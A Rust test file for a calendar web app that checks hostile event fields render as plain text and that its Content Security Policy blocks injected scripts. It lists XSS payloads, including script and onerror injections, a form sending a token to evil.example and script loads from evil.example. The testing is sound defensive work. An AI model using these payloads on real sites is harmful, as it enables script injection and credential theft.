//! What a calendar holds does nothing but stand there.

use calendar_sync::Event;
use serde_json::json;

use crate::site::Site;
use crate::store::event;

const HOSTILE: [&str; 12] = [
    "<script>document.title = 'owned'</script>",
    "<img src=x onerror=\"document.title = 'owned'\">",
    "<svg/onload=document.title='owned'>",
    "\"><a autofocus onfocus=\"document.title = 'owned'\" href=x>x</a>",
    "' onmouseover='document.title=`owned`'",
    "</bdi></a></li></ul></main><form action=https://evil.example><input name=token>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "javascript:document.title='owned'",
    "&lt;script&gt;document.title='owned'&lt;/script&gt;",
    "{{constructor.constructor('document.title=1')()}} ${7*7} \u{202e}txet\u{2066}",
];

#[tokio::test]
async fn hostile_titles_do_nothing_in_any_view() {
    let site = Site::start().await;
    let events = HOSTILE.iter().enumerate().map(|(number, text)| {
        let (start, end) = if number % 3 == 0 {
            ("2026-12-02".to_owned(), "2026-12-03".to_owned())
        } else {
            (format!("2026-12-02T{:02}:00:00Z", 6 + number), format!("2026-12-02T{:02}:00:00Z", 7 + number))
        };
        let text = || Some((*text).to_owned());
        Event {
            summary: text(),
            location: text(),
            description: text(),
            meeting_url: text(),
            calendar_id: text().unwrap(),
            time_zone: text(),
            status: text(),
            ..event(text().unwrap().as_str(), &start, &end)
        }
    });
    site.store.commit("team", events, &[]).await;
    let view = site.open(&site.calendar("team", "timeZone=Etc%2FUTC")).await;
    for kind in ["agenda", "day", "week"] {
        view.goto(&site.calendar("team", &format!("view={kind}&date=2026-12-02&timeZone=Etc%2FUTC"))).await;
        view.has("#live.on").await;
        let titles = view.texts(".what").await;
        for text in HOSTILE {
            let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
            assert!(kind == "week" || titles.contains(&text), "{text} stands in the {kind} as it is: {titles:?}");
        }
        // The same when it comes as a change.
        let changed = Event {
            summary: Some(format!("{kind} {}", HOSTILE[1])),
            ..event("changed", "2026-12-02T06:00:00Z", "2026-12-02T07:00:00Z")
        };
        site.store.commit("team", [changed], &[]).await;
        view.until(&format!("document.querySelector('#news').textContent.includes('{kind} <img')")).await;
        let made =
            "document.querySelectorAll('#events :is(script, img, iframe, style, link, meta, form, svg, input)').length";
        assert_eq!(view.value(made).await, json!(0), "{kind}");
        let links =
            "[...document.querySelectorAll('a')].filter((a) => a.origin !== location.origin).map((a) => a.href)";
        assert_eq!(view.value(links).await, json!([]), "{kind}");
        let title = view.tab.title().await.unwrap();
        assert!(title.starts_with("team"), "{title}");
    }
    view.ends_quietly().await;
}

#[tokio::test]
async fn the_policy_stops_a_script_that_would_get_into_a_page() {
    let site = Site::start().await;
    site.store.commit("team", [event("a", "2026-12-02", "2026-12-03")], &[]).await;
    let view = site.open(&site.calendar("team", "timeZone=Etc%2FUTC")).await;
    view.has("#live.on").await;
    for attempt in [
        "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
        "(document.body.innerHTML += '<img src=x onerror=\"document.title=`owned`\">')",
        "document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x.png' }))",
        "document.body.append(Object.assign(document.createElement('iframe'), { src: '/calendars' }))",
        "fetch('https://evil.example/').catch(() => 0) && 0",
    ] {
        view.value(attempt).await;
        let complained = testenv::eventually(attempt, std::time::Duration::from_secs(10), async || {
            let complaints = view.tab.complaints().await;
            complaints
                .iter()
                .any(|line| {
                    line.contains("Content Security Policy")
                        || line.contains("TrustedHTML")
                        || line.contains("TrustedScriptURL")
                })
                .then_some(())
        });
        // What makes markup from text is an error of the script itself, which is not in the log.
        if let Err(error) = complained.await {
            let said = view.value(attempt).await.to_string();
            assert!(said.contains("Trusted"), "{error}: {said}");
        }
    }
    assert_ne!(view.tab.title().await.unwrap(), "owned");
    view.tab.close().await;
}
